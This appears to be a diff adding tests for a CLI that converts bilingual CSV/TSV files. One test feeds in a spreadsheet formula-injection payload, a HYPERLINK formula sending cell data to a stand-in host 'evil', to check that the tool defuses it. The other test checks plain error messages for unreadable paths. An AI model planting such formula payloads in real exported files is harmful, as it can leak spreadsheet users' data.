@@ -100,4 +100,34 @@ describe('the facing command line', { timeout: 120_000 }, () => {
     expect(existsSync(join(dir, 'out.tsv'))).toBe(false);
     expect((await facing('align', left, right, '--format', 'pdf')).code).toBe(2);
   });
+
+  it('convert defuses formula cells in the TSV it writes', async () => {
+    const dir = temp();
+    const csv = join(dir, 'x.csv');
+    writeFileSync(csv, 'en,de\n"=HYPERLINK(""http://evil/?""&A1)",@SUM(A1)\n');
+    const out = join(dir, 'out.tsv');
+    expect((await facing('convert', csv, out)).code).toBe(0);
+    expect(readFileSync(out, 'utf8').split('\r\n')[1]).toBe(`1\t"'=HYPERLINK(""http://evil/?""&A1)"\t'@SUM(A1)\t\t\t`);
+  });
+
+  it('files that cannot be read or written: exit 2 and one plain line naming the file, no system error codes', async () => {
+    const dir = temp();
+    const csv = join(dir, 'a.csv');
+    writeFileSync(csv, 'en,de\nBerlin,Berlin\n');
+    const cases: Array<[string[], RegExp]> = [
+      [['convert', csv, '/nonexistent/out.tmx'], /cannot write \/nonexistent\/out\.tmx: the folder does not exist/],
+      [['convert', csv, dir + '/'], new RegExp(`cannot write ${dir}/?: it is a folder, not a file|${dir}/?: cannot tell the format`)],
+      [['convert', dir, join(dir, 'out.tmx')], new RegExp(`cannot read ${dir}: it is a folder, not a file`)],
+      [['align', dir, right], new RegExp(`cannot read ${dir}: it is a folder, not a file`)],
+      [['check', left, right, '--report', '/nonexistent/report.html'], /cannot write \/nonexistent\/report\.html: the folder does not exist/],
+      [['check', left, right, '--glossary', dir], new RegExp(`cannot read ${dir}: it is a folder, not a file`)],
+    ];
+    for (const [args, message] of cases) {
+      const run = await facing(...args);
+      expect(run.code, args.join(' ')).toBe(2);
+      expect(run.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
+      expect(run.stderr, args.join(' ')).toMatch(message);
+      expect(run.stderr).not.toMatch(/\b(ENOENT|EISDIR|EACCES)\b/);
+    }
+  });
 });
